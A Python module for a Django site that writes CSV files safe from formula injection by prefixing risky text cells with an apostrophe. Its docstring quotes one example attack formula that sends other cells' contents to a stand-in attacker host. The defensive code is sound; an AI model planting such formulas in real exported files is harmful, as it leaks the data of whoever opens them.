"""CSV files a spreadsheet opens safely (CSV injection, OWASP's « CSV Injection » page).

A spreadsheet runs a cell starting with `=`, `+`, `-` or `@` as a formula (and some also after a
leading tab or carriage return), so a title such as `=HYPERLINK("https://evil.example/?"&B2)`
would send the other cells away when the file is opened. Every CSV the site writes goes through
`writer()`: such a text cell gets a leading apostrophe, which spreadsheets show as plain text.
"""

import csv

from django.utils.functional import Promise

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value`, with a leading apostrophe when it is text a spreadsheet would run as a formula.
    Numbers are left as they are: -3 is a number, not a formula."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer's writerow/writerows, every cell through safe_cell()."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(file, **options):
    """A csv.writer (same options) whose cells cannot run as formulas."""
    return SafeWriter(file, **options)
